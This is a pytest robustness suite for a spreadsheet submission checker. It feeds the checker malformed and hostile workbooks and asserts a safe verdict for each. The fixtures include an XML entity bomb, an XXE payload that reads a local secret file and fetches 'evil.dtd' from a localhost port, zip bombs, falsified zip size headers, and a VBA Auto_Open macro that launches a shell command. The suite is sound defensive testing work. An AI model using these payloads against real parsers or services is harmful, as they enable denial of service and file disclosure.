"""Hard to break: whatever arrives — broken, hostile, huge, not a file at all — gets a verdict, quickly and with
little memory, from `read_submission` and from `tianbao check` (exit code 0 or 1, never a traceback), and one
bad file never stops the others.

The corpus is generated here (nothing big is committed): `CORPUS` lists each bad input with the verdict it must
get — broken and hostile containers, numbers beyond the domain or no cast reads, file names that are not UTF-8
or hold control characters, a stamp and cover edited alike, consolidated workbooks that do not hold what their
stamp says. Also here: fuzzing of a valid workbook (hypothesis, fixed budget, derandomized), of the values that
merge adds up (exactly, into a well-formed workbook) and of the names every output carries, a worker process
that crashes, and a folder of thousands of files. Inputs other than workbooks: tests/test_hostile_inputs.py.
Outputs (atomic writes, safe file names, formula-looking text) are tested in tests/test_outputs.py, outputs that
would overwrite inputs in tests/test_outputs_apart.py, interrupted writes in tests/test_interrupted_writes.py;
real spreadsheet clients in tests/test_real_clients.py.
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import shutil
import socket
import sys
import threading
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape as xml_escape

import make_fixtures as fx
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

import lookalikes as lk
from tianbao import pool as pool_module
from tianbao.cli.main import app
from tianbao.fileio import legible_path
from tianbao.options import CheckOptions
from tianbao.reading import Submission, read_submission
from tianbao.spec import load_spec
from tianbao.validation import check_files
from tianbao.validation import run as run_module
from tianbao.validation.report import status_of
from wellformed import assert_well_formed

SPEC = load_spec("2021")
YEAR = fx.YEAR
TAMPERED, CONSOLIDATED = (
    Path(__file__).parent / "data" / "tampered",
    Path(__file__).parent / "data" / "merge" / "tampered",
)
MB = 1024 * 1024
SECRET = "TIANBAO-SECRET-7f3a9c"  # in the file an external entity points to: must never show up
FIXED = (2026, 1, 15, 9, 30, 0)


def read(path: Path, **kwargs: Any) -> Submission:
    kwargs.setdefault("expected_year", YEAR)
    kwargs.setdefault("roster", fx.ROSTER)
    kwargs.setdefault("expected_spec", SPEC)
    return read_submission(path, **kwargs)


def codes(sub: Submission) -> list[str]:
    return [i.code for i in sub.issues]


def cli(*args: str) -> Any:
    result = CliRunner().invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code in (0, 1), result.output
    return result


# --- zip surgery ------------------------------------------------------------------------------------------
def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def pack(items: dict[str, bytes], stored: tuple[str, ...] = (), level: int = 6) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in items.items():
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            z.writestr(zipfile.ZipInfo(name, date_time=FIXED), data, how, compresslevel=level)
    return buf.getvalue()


def changed(valid: Path, **edits: Callable[[bytes], bytes]) -> bytes:
    """The valid workbook with members rewritten (keyword: member name with “/”→“__”, “.”→“_”)."""
    items = members(valid.read_bytes())
    for key, change in edits.items():
        name = next(n for n in items if re.sub(r"[/.\[\]]", "_", n).replace("__", "_") == key)
        items[name] = change(items[name])
    return pack(items)


def with_doctype(xml: bytes, doctype: bytes, reference: bytes = b"") -> bytes:
    """Put a DOCTYPE after the XML declaration; `reference` (an entity use) goes into the first text node."""
    head, sep, body = xml.partition(b"?>")
    if not sep:
        head, body = b"", xml
    else:
        head += sep
    if reference:
        body = re.sub(rb">([^<\s][^<]*)<", lambda m: b">" + reference + m.group(1) + b"<", body, count=1)
    return head + doctype + body


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)


def xxe(secret: Path, port: int) -> bytes:
    return (
        b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "'
        + secret.as_uri().encode()
        + b'"><!ENTITY % remote SYSTEM "http://127.0.0.1:'
        + str(port).encode()
        + b'/evil.dtd"> %remote;]>'
    )


def add_shared_strings(items: dict[str, bytes], strings: bytes, count: int) -> None:
    """Give a filled workbook (openpyxl writes inline strings) a shared strings part, and make 封面's 填报人
    cell use its last string, so that the table is really read."""
    items["xl/sharedStrings.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">'
        % (count, count)
        + strings
        + b"</sst>"
    )
    items["xl/_rels/workbook.xml.rels"] = items["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    items["[Content_Types].xml"] = items["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.sharedStrings+xml"/></Types>',
    )
    cover = items[fx.sheet_part("封面")]
    new, n = re.subn(
        rb'(<c r="[A-Z]+\d+"[^>]*?) t="inlineStr"><is><t>'
        + fx.COVER["meta.filled_by"].encode()
        + rb"</t></is>",
        rb'\1 t="s"><v>%d</v>' % (count - 1),
        cover,
    )
    assert n == 1
    items[fx.sheet_part("封面")] = new


def strings_table(n: int, last: str = "王五") -> bytes:
    body = b"".join(
        "<si><t>%d 诺敏镇人民政府办公室 %d</t></si>".encode() % (i, i * 7919 % 100003) for i in range(n - 1)
    )
    return body + b"<si><t>" + last.encode() + b"</t></si>"


def with_member(
    valid: Path, name: str, data: bytes | None = None, size: int = 0, stored: bool = False
) -> bytes:
    """The valid workbook plus one member: `data`, or `size` zero bytes written in chunks (never in memory)."""
    buf = io.BytesIO(valid.read_bytes())
    with zipfile.ZipFile(buf, "a") as z:
        info = zipfile.ZipInfo(name, date_time=FIXED)
        info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=size > 2**31) as out:
            if data is not None:
                out.write(data)
            chunk = bytes(MB)
            for _ in range(size // MB):
                out.write(chunk)
    return buf.getvalue()


def declared_huge(valid: Path) -> bytes:
    """A member that says it inflates to 3.75 GB (central directory and local header), holding a few bytes."""
    data = bytearray(with_member(valid, "xl/media/image1.png", bytes(1000)))
    name = b"xl/media/image1.png"
    for sig, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        pos = 0
        while (pos := data.find(sig, pos)) >= 0:
            if data[pos + name_at : pos + name_at + len(name)] == name:
                data[pos + size_at : pos + size_at + 4] = (0xF0000000).to_bytes(4, "little")
            pos += 4
    return bytes(data)


def understated(valid: Path) -> bytes:
    """表三 says (in the zip directory) that it inflates to 100 bytes: it inflates to more, and is caught."""
    data = bytearray(valid.read_bytes())
    name = fx.sheet_part("表三").encode()
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
        if data[pos + 46 : pos + 46 + len(name)] == name:
            data[pos + 24 : pos + 28] = (100).to_bytes(4, "little")
        pos += 4
    return bytes(data)


def crc_error(valid: Path) -> bytes:
    """表三 stored uncompressed, one digit of a value changed in place: the XML is fine, the CRC is not."""
    items = members(valid.read_bytes())
    data = bytearray(pack(items, stored=(fx.sheet_part("表三"),)))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo(fx.sheet_part("表三"))
    start = info.header_offset + 30 + len(info.filename.encode())
    at = data.index(b"<v>3</v>", start)
    data[at + 3] = ord("4")
    return bytes(data)


def compound_file(streams: dict[str, bytes]) -> bytes:
    """An OLE2 compound file (MS-CFB, version 3, 512-byte sectors) holding `streams`, each at least 4096 bytes
    so that no mini stream is needed: what Excel writes for a workbook with an opening password holds the
    streams EncryptionInfo and EncryptedPackage."""
    free, end, fat_sector, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    u16, u32 = (lambda n: n.to_bytes(2, "little")), (lambda n: n.to_bytes(4, "little"))
    fat = [fat_sector, end]  # sector 0: the FAT, sector 1: the directory
    starts, body = [], b""
    for data in streams.values():
        assert len(data) >= 4096 and len(data) % 512 == 0
        starts.append(len(fat))
        n = len(data) // 512
        fat += [len(fat) + i + 1 for i in range(n - 1)] + [end]
        body += data
    assert len(fat) <= 128

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\0") + u16(len(encoded)) + bytes([kind, 1]) + u32(nostream) + u32(right)
            + u32(child) + bytes(16) + u32(0) + bytes(16) + u32(start) + u32(size) + u32(0)
        )  # fmt: skip

    names = list(streams)
    directory = entry("Root Entry", 5, nostream, 1, end, 0)
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else nostream
        directory += entry(name, 2, right, nostream, starts[i], len(streams[name]))
    directory = directory.ljust(512, b"\0")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + u16(0x3E) + u16(3) + u16(0xFFFE) + u16(9) + u16(6)
        + bytes(6) + u32(0) + u32(1) + u32(1) + u32(0) + u32(4096) + u32(end) + u32(0) + u32(end) + u32(0)
        + u32(0) + u32(free) * 108
    )  # fmt: skip
    assert len(header) == 512
    fat_bytes = b"".join(u32(x) for x in fat + [free] * (128 - len(fat)))
    return header + fat_bytes + directory + body


def encrypted_workbook() -> bytes:
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption '
        b'xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" '
        b'keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
        b'hashAlgorithm="SHA512"/></encryption>'
    )
    package = (24_000).to_bytes(8, "little") + random.Random(3).randbytes(8192 - 8)
    return compound_file({"EncryptionInfo": info.ljust(4096, b"\0"), "EncryptedPackage": package})


def macro_workbook(valid: Path) -> bytes:
    items = members(valid.read_bytes())
    items["[Content_Types].xml"] = (
        items["[Content_Types].xml"]
        .replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        .replace(
            b"<Default ",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
            1,
        )
    )
    assert b"application/vnd.ms-excel.sheet.macroEnabled.main+xml" in items["[Content_Types].xml"]
    items["xl/_rels/workbook.xml.rels"] = items["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/></Relationships>',
    )
    items["xl/vbaProject.bin"] = (
        fx.ole2("VBA") + b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "calc"\r\nEnd Sub'
    )
    return pack(items)


def far_cell(valid: Path) -> bytes:
    """One more cell in 表三, at XFD1048576; the dimension says A1:XFD1048576 (17 billion cells)."""

    def change(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)
        return xml.replace(
            b"</sheetData>",
            b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
        )

    items = members(valid.read_bytes())
    items[fx.sheet_part("表三")] = change(items[fx.sheet_part("表三")])
    return pack(items)


def stored_value(valid: Path, cell_id: str, xml: str) -> bytes:
    """The valid workbook with one input cell's XML replaced (`xml`: what follows `<c r="…"`)."""
    from tianbao.spec.layout import a1, cell_boxes

    sheet, box = cell_boxes(SPEC)[cell_id]
    ref = a1(box.row, box.col).encode()

    def change(data: bytes) -> bytes:
        new, n = re.subn(
            rb'<c r="' + ref + rb'"[^>]*?(/>|>.*?</c>)', b'<c r="' + ref + b'"' + xml.encode(), data
        )
        assert n == 1
        return new

    key = fx.sheet_part(sheet).replace("/", "_").replace(".", "_")
    return changed(valid, **{key: change})


def only_far_cell(path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active["XFD1048576"] = "孤零零的一格"
    wb.save(path)


# --- the corpus -------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Bad:
    name: str  # the file's name in the corpus folder
    build: Callable[[Path, Path, dict[str, Any]], None]  # (target, valid file, context) → writes target
    codes: tuple[str, ...]  # the verdict: every issue code, in order
    text: str = ""  # part of the first issue's message
    cli: bool = True  # part of the folder given to `tianbao check` (a folder named .xlsx is a folder there)

    @property
    def cli_codes(self) -> list[str]:
        """The verdict of `tianbao check` without a roster: no unit is “not in the roster” there."""
        return [c for c in self.codes if c != "unit-not-in-roster"]


def _bytes(make: Callable[[Path, dict[str, Any]], bytes]) -> Callable[[Path, Path, dict[str, Any]], None]:
    def build(target: Path, valid: Path, ctx: dict[str, Any]) -> None:
        target.write_bytes(make(valid, ctx))

    return build


def _bomb_in(part: str) -> Callable[[Path, Path, dict[str, Any]], None]:
    def make(valid: Path, ctx: dict[str, Any]) -> bytes:
        items = members(valid.read_bytes())
        if part == "xl/sharedStrings.xml":
            add_shared_strings(items, strings_table(3), 3)
        items[part] = with_doctype(items[part], LAUGHS, b"&lol9;")
        return pack(items)

    return _bytes(make)


def _xxe_in(part: str) -> Callable[[Path, Path, dict[str, Any]], None]:
    def make(valid: Path, ctx: dict[str, Any]) -> bytes:
        items = members(valid.read_bytes())
        if part == "xl/sharedStrings.xml":
            add_shared_strings(items, strings_table(3), 3)
        items[part] = with_doctype(items[part], xxe(ctx["secret"], ctx["port"]), b"&xxe;")
        return pack(items)

    return _bytes(make)


def _copy(source: Path) -> Callable[[Path, Path, dict[str, Any]], None]:
    """A fixture of tests/data as it is (made by tests/data/make_fixtures.py)."""

    def build(target: Path, valid: Path, ctx: dict[str, Any]) -> None:
        target.write_bytes(source.read_bytes())

    return build


def _tiny(target: Path, valid: Path, ctx: dict[str, Any]) -> None:
    """-0 as a count and the smallest denormal as an amount: both are 0 (no “-0”)."""
    target.write_bytes(stored_value(valid, "t2.licensing.decisions", "><v>-0</v></c>"))
    target.write_bytes(stored_value(target, "t2.fees.amount_wan", "><v>5e-324</v></c>"))


def _without_table4(target: Path, valid: Path, ctx: dict[str, Any]) -> None:
    target.write_bytes(valid.read_bytes())
    fx.edit(target, lambda wb: wb.remove(wb["表四"]))


def _changed(change: lk.Change) -> Callable[[Path, Path, dict[str, Any]], None]:
    def build(target: Path, valid: Path, ctx: dict[str, Any]) -> None:
        target.write_bytes(valid.read_bytes())
        change(target)

    return build


def _fifo(target: Path, valid: Path, ctx: dict[str, Any]) -> None:
    os.mkfifo(target)


def _big_strings(valid: Path, ctx: dict[str, Any]) -> bytes:
    items = members(valid.read_bytes())
    n = 900_000
    add_shared_strings(items, strings_table(n), n)
    assert len(items["xl/sharedStrings.xml"]) > 50 * MB
    return pack(items, level=1)


XML_PARTS = {
    "表三": fx.sheet_part("表三"),
    "共享字符串": "xl/sharedStrings.xml",
    "workbook": "xl/workbook.xml",
    "自定义属性": "docProps/custom.xml",
}
BIFF8 = compound_file({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00".ljust(4096, b"\0")})  # .xls, WPS .et
CSV = "单位名称,新收申请,上年结转\n诺敏镇人民政府,3,1\n".encode("gb18030")
ODS = pack(
    {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"},
    stored=("mimetype",),
)
CORPUS: list[Bad] = [
    Bad("空文件.xlsx", _bytes(lambda v, c: b""), ("file-empty",), "文件是空的（0 字节）"),
    Bad(
        "随机字节.xlsx",
        _bytes(lambda v, c: random.Random(5).randbytes(5000)),
        ("not-xlsx",),
        "文件内容不是 Excel",
    ),
    Bad("CSV改名.xlsx", _bytes(lambda v, c: CSV), ("not-xlsx",), "这是文本文件（可能是 CSV 改了扩展名）"),
    Bad(
        "下载中断.xlsx",
        _bytes(lambda v, c: v.read_bytes()[: v.stat().st_size // 2]),
        ("corrupt-workbook",),
        "文件不完整",
    ),
    Bad("CRC错误.xlsx", _bytes(lambda v, c: crc_error(v)), ("corrupt-workbook",), "工作簿已损坏"),
    Bad(
        "压缩包.xlsx",
        _bytes(lambda v, c: pack({"报表/说明.txt": "见附件".encode()})),
        ("not-xlsx",),
        "这是压缩包，里面没有 Excel 工作簿",
    ),
    Bad(
        "Word文档.xlsx",
        _bytes(lambda v, c: pack({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})),
        ("not-xlsx",),
        "这是 Word 文档",
    ),
    Bad(
        "缺少表四.xlsx",
        _without_table4,
        ("sheet-missing",),
        "缺少工作表“表四”",
    ),
    Bad(
        "旧版.xls",
        _bytes(lambda v, c: BIFF8),
        ("legacy-format",),
        "旧版 Excel（97-2003）的 .xls",
    ),
    Bad("金山.et", _bytes(lambda v, c: BIFF8), ("legacy-format",), "WPS 表格的 .et"),
    Bad("开放文档.ods", _bytes(lambda v, c: ODS), ("legacy-format",), "OpenDocument 表格的 .ods"),
    Bad("含宏.xlsm", _bytes(lambda v, c: macro_workbook(v)), ("macros-present",), "宏不会被执行"),
    Bad(
        "已加密.xlsx",
        _bytes(lambda v, c: encrypted_workbook()),
        ("encrypted",),
        "文件已加密（设置了打开密码）",
    ),
    *(
        Bad(f"实体炸弹_{k}.xlsx", _bomb_in(part), ("unsafe-workbook",), "含有不允许的 XML 实体或外部引用")
        for k, part in XML_PARTS.items()
    ),
    *(
        Bad(f"外部实体_{k}.xlsx", _xxe_in(part), ("unsafe-workbook",), "含有不允许的 XML 实体或外部引用")
        for k, part in XML_PARTS.items()
    ),
    Bad(  # 200 MB of zeros, deflated to 200 KB and declared honestly
        "压缩炸弹.xlsx",
        _bytes(lambda v, c: with_member(v, "xl/media/image2.png", size=200 * MB)),
        ("unsafe-workbook",),
        "其中的 xl/media/image2.png 压缩比异常",
    ),
    Bad("声明过大.xlsx", _bytes(lambda v, c: declared_huge(v)), ("unsafe-workbook",), "压缩比异常"),
    Bad("谎报大小.xlsx", _bytes(lambda v, c: understated(v)), ("corrupt-workbook",), "工作簿已损坏"),
    Bad("远处单元格.xlsx", _bytes(lambda v, c: far_cell(v)), ()),
    Bad("只有远处单元格.xlsx", lambda t, v, c: only_far_cell(t), ("not-a-template",)),
    Bad(
        "大共享字符串表.xlsx",
        _bytes(_big_strings),
        ("file-too-large",),
        "共享字符串表解压后大小 50.4 MB 超过上限 10.0 MB",
    ),
    Bad(
        "一百兆.xlsx",
        _bytes(lambda v, c: with_member(v, "xl/media/junk.bin", size=100 * MB, stored=True)),
        ("file-too-large",),
        "文件大小 100.0 MB 超过上限 50.0 MB，未读取；可用 --max-file-size 放宽上限",
    ),
    Bad("文件夹.xlsx", lambda t, v, c: t.mkdir(), ("file-unreadable",), "这是文件夹，不是文件", cli=False),
    Bad(
        "断开的链接.xlsx",
        lambda t, v, c: t.symlink_to(t.parent / "已删除.xlsx"),
        ("file-unreadable",),
        "文件或文件夹不存在",
    ),
    Bad("管道.xlsx", _fifo, ("file-unreadable",), "这不是普通文件（可能是管道或设备）"),
    # What openpyxl refuses beside a look-alike it accepts (tests/lookalikes.py); the look-alike sorts first.
    *(
        Bad(f"同形_{name}_乙.xlsx", _changed(refused), ("corrupt-workbook",), "工作簿已损坏")
        for name, (refused, _) in lk.REFUSED.items()
    ),
    Bad(
        "同形_custom-utf8-by-another-name_甲.xlsx",
        _changed(lk.custom_declared_ascii),
        ("stamp-inconsistent",),
    ),
    Bad("同形_sheet-utf8-by-another-name_甲.xlsx", _changed(lk.sheet_declared_ascii), ("layout-changed",)),
    Bad("同形_utf8-name-in-directory-only_甲.xlsx", _changed(lk.rename_member), ()),
    Bad("同形_invalid-utf8-local-name_甲.xlsx", _changed(lk.renamed_replaced), ()),
    # numbers beyond the domain, as numbers and as text, and numbers no cast reads (tianbao.spec.domain)
    *(
        Bad(name, _bytes(lambda v, c, xml=xml: stored_value(v, "t2.licensing.decisions", xml)), (code,), text)
        for name, xml, code, text in (
            ("一亿亿亿.xlsx", "><v>1E+25</v></c>", "value-out-of-range", "填写为“1E+25”，超出允许的范围"),
            (
                "最大的double.xlsx",
                "><v>1.7976931348623157e308</v></c>",
                "value-out-of-range",
                "超出允许的范围",
            ),
            (
                "四百位文字.xlsx",
                ' t="inlineStr"><is><t>' + "9" * 400 + "</t></is></c>",
                "value-out-of-range",
                "",
            ),
            ("五千位数字.xlsx", "><v>" + "9" * 5000 + "</v></c>", "value-out-of-range", "超出允许的范围"),
            ("NaN.xlsx", "><v>NaN</v></c>", "value-not-a-number", "填写为“NaN”，不是数字"),
            ("INF.xlsx", "><v>-INF</v></c>", "value-not-a-number", "填写为“-INF”，不是数字"),
        )
    ),
    Bad("负零和非规格化数.xlsx", _tiny, ()),
    # file names no text file can hold: the bytes of a GBK name (Linux: surrogate escapes), control characters
    Bad(os.fsdecode("诺敏镇".encode("gbk")) + ".xlsx", _bytes(lambda v, c: v.read_bytes()), ()),
    Bad("阿里河\x01\x0b镇.xlsx", _bytes(lambda v, c: v.read_bytes()), ()),
    # a stamp and cover edited alike to another unit; consolidated workbooks that do not hold what they say
    Bad(
        "封面和戳记改为他单位.xlsx",
        _copy(TAMPERED / "stamp-and-cover-other-unit.xlsx"),
        ("stamp-inconsistent", "protection-removed"),
        "模板编号",
    ),
    Bad(
        "明细中有nan.xlsx",
        _copy(CONSOLIDATED / "detail-nan.xlsx"),
        ("unit-not-in-roster", "value-not-a-number"),
    ),
    Bad(
        "明细删了一行.xlsx",
        _copy(CONSOLIDATED / "detail-row-deleted.xlsx"),
        ("unit-not-in-roster", "stamp-inconsistent"),
    ),
]
BY_NAME = {b.name: b for b in CORPUS}


@pytest.fixture(scope="module")
def valid(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return fx.filled(tmp_path_factory.mktemp("valid") / "valid.xlsx")


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    """A port on localhost that an external entity points to: nobody may ever connect to it."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    yield sock
    sock.close()


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory, valid: Path, listener: socket.socket) -> Path:
    root = tmp_path_factory.mktemp("corpus")
    secret = root.parent / "secret.txt"
    secret.write_text(SECRET)
    folder = root / "回收"
    folder.mkdir()
    ctx = {"secret": secret, "port": listener.getsockname()[1]}
    for bad in CORPUS:
        bad.build(folder / bad.name, valid, ctx)
    return folder


def assert_nobody_connected(listener: socket.socket) -> None:
    with pytest.raises(BlockingIOError):
        listener.accept()


def read_with_timeout(path: Path, seconds: float = 20) -> Submission:
    """Read in a thread: a reader that hangs (on a FIFO, say) fails the test instead of hanging it."""
    out: list[Submission] = []
    thread = threading.Thread(target=lambda: out.append(read(path)), daemon=True)
    thread.start()
    thread.join(seconds)
    assert out, f"reading {path.name} did not finish in {seconds} s"
    return out[0]


@pytest.mark.parametrize("name", [b.name for b in CORPUS])
def test_corpus_verdict(name: str, corpus: Path, valid: Path, listener: socket.socket) -> None:
    bad = BY_NAME[name]
    tracemalloc.start()
    try:
        sub = read_with_timeout(corpus / name)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert codes(sub) == list(bad.codes), [(i.code, i.message) for i in sub.issues]
    if bad.text:
        assert bad.text in sub.issues[0].message
    for issue in sub.issues:
        assert issue.message and issue.hint and "{" not in issue.message + issue.hint
    # With little memory: nothing was inflated, expanded or allocated for the declared sizes (how fast is
    # measured in benchmarks/, not asserted here; a reader that hangs fails read_with_timeout).
    assert peak < 40 * MB, f"{name}: {peak / MB:.0f} MB"
    dump = json.dumps(
        [sub.meta, sub.values, [i.to_dict() for i in sub.issues]], ensure_ascii=False, default=str
    )
    assert SECRET not in dump and "lollollol" not in dump
    assert_nobody_connected(listener)


def test_macros_do_not_stop_the_data(corpus: Path, valid: Path) -> None:
    sub, ref = read(corpus / "含宏.xlsm"), read(valid)
    assert sub.readable and status_of(sub.issues) == "accepted_with_warnings"
    assert sub.values == ref.values and sub.values["t3.new.np"] == 3


def test_a_far_cell_is_no_huge_grid(corpus: Path, valid: Path) -> None:
    """The dimension says 17 billion cells; the one far cell is read past, the template's cells are read."""
    sub = read(corpus / "远处单元格.xlsx")
    assert sub.readable and sub.issues == [] and sub.values == read(valid).values


def test_shared_strings_under_the_limit_are_read(tmp_path: Path, valid: Path) -> None:
    items = members(valid.read_bytes())
    add_shared_strings(items, strings_table(20_000, last="赵六"), 20_000)
    path = tmp_path / "共享字符串.xlsx"
    path.write_bytes(pack(items))
    sub = read(path)
    assert sub.readable and sub.issues == [] and sub.meta["filled_by"] == "赵六"


def test_the_corpus_through_the_cli(corpus: Path, listener: socket.socket) -> None:
    """One `tianbao check` on the whole folder (in worker processes): a verdict for every file, exit code 1."""
    result = cli("check", str(corpus), "--year", str(YEAR), "--json", "--jobs", "2")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    got = {Path(f["path"]).name: f for f in report["files"]}
    expected = {b.name: b for b in CORPUS if b.cli}
    assert set(got) == set(expected)
    for name, bad in expected.items():
        found = [i["code"] for i in got[name]["issues"]]
        assert found == bad.cli_codes, (name, found)
        assert got[name]["status"] == status_of(read(corpus / name, roster=None).issues)
    assert report["summary"]["files"] == len(expected)
    assert_nobody_connected(listener)


def test_the_corpus_as_a_readable_report(corpus: Path) -> None:
    result = cli("check", str(corpus), "--year", str(YEAR), "--jobs", "1")
    assert result.exit_code == 1
    text = re.sub(r"\s+", "", result.stdout)
    for bad in CORPUS:
        if bad.cli:
            assert re.sub(r"\s+", "", legible_path(bad.name).removesuffix(".xlsx")) in text
    assert f"共检查{sum(b.cli for b in CORPUS)}个文件（按文件计）" in text


def test_limits_are_raised_from_the_cli(corpus: Path) -> None:
    big = str(corpus / "一百兆.xlsx")
    refused = json.loads(cli("check", big, "--json", "--max-file-size", "200MB").stdout)
    assert refused["files"][0]["issues"][0]["message"] == (
        "解压后大小 100.2 MB 超过上限 100.0 MB，未读取；可用 --max-uncompressed 放宽上限。"
    )
    ok = cli("check", big, "--json", "--max-file-size", "200MB", "--max-uncompressed", "0.5GB")
    assert ok.exit_code == 0 and json.loads(ok.stdout)["files"][0]["status"] == "accepted"


@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        (
            "--max-file-size",
            "10KB",
            r"文件大小 \d+\.\d KB 超过上限 10\.0 KB，未读取；可用 --max-file-size 放宽上限。",
        ),
        (
            "--max-uncompressed",
            "100KB",
            r"解压后大小 \d+\.\d KB 超过上限 100\.0 KB，未读取；可用 --max-uncompressed",
        ),
        (
            "--max-cells",
            "100",
            r"工作表“\w+”的单元格超过上限（读到第 101 个时停止），未读取；可用 --max-cells",
        ),
    ],
)
def test_each_limit_names_its_option(
    corpus: Path, valid: Path, option: str, value: str, message: str
) -> None:
    result = cli("check", str(valid), "--json", option, value)
    assert result.exit_code == 1
    issue = json.loads(result.stdout)["files"][0]["issues"][0]
    assert issue["code"] == "file-too-large" and re.match(message, issue["message"]), issue["message"]


def test_shared_strings_limit_names_its_option(tmp_path: Path, valid: Path) -> None:
    items = members(valid.read_bytes())
    add_shared_strings(items, strings_table(20_000), 20_000)
    path = tmp_path / "共享字符串.xlsx"
    path.write_bytes(pack(items))
    result = cli("check", str(path), "--json", "--max-shared-strings", "100KB")
    issue = json.loads(result.stdout)["files"][0]["issues"][0]
    assert re.fullmatch(
        r"共享字符串表解压后大小 \d+\.\d MB 超过上限 100\.0 KB，未读取；可用 --max-shared-strings 放宽上限。",
        issue["message"],
    )


@pytest.mark.parametrize("value", ["12parsecs", "-5MB", "MB", ""])
def test_a_bad_limit_is_misuse(valid: Path, value: str) -> None:
    result = CliRunner().invoke(app, ["check", str(valid), "--max-file-size", value])
    assert result.exit_code == 2 and "无法识别的大小" in result.output


def test_the_default_limits_never_bite_a_consolidated_workbook_of_1000_units() -> None:
    """Measured (see Limits): 0.7 MB, 7.5 MB unzipped, 204,000 cells in 明细, 130 KB of shared strings."""
    from tianbao.reading import Limits

    limits = Limits()
    assert limits.max_file_size > 50 * 0.7 * MB and limits.max_uncompressed > 10 * 7.5 * MB
    assert limits.max_cells > 4 * 204_000 and limits.max_shared_strings > 50 * 130 * 1024


# --- a folder of thousands of files -----------------------------------------------------------------------
def test_thousands_of_files_each_get_a_verdict(tmp_path: Path, valid: Path) -> None:
    folder = tmp_path / "收件箱"
    rng = random.Random(7)
    junk = [b"", b"%PDF-1.4\n", "单位,件数\n诺敏镇,3\n".encode(), b"\x89PNG\r\n\x1a\n", fx.ole2("Workbook")]
    data = valid.read_bytes()
    names: list[Path] = []
    for i in range(2000):
        sub = folder / f"第{i % 7}批" / (f"子目录{i % 3}" if i % 5 == 0 else "")
        sub.mkdir(parents=True, exist_ok=True)
        if i % 100 == 0:
            path = sub / f"报表{i}.xlsx"
            path.write_bytes(data)
        else:
            path = sub / f"附件{i}{rng.choice(['.xlsx', '.txt', '.jpg', '.xls', ''])}"
            path.write_bytes(rng.choice(junk) + rng.randbytes(rng.randrange(0, 64)))
        names.append(path)
    result = cli("check", str(folder), "--year", str(YEAR), "--json", "--jobs", "2")
    report = json.loads(result.stdout)
    assert sorted(f["path"] for f in report["files"]) == sorted(map(str, names))
    accepted = [f for f in report["files"] if f["status"] == "accepted"]
    assert len(accepted) == 20 and all("报表" in f["path"] for f in accepted)
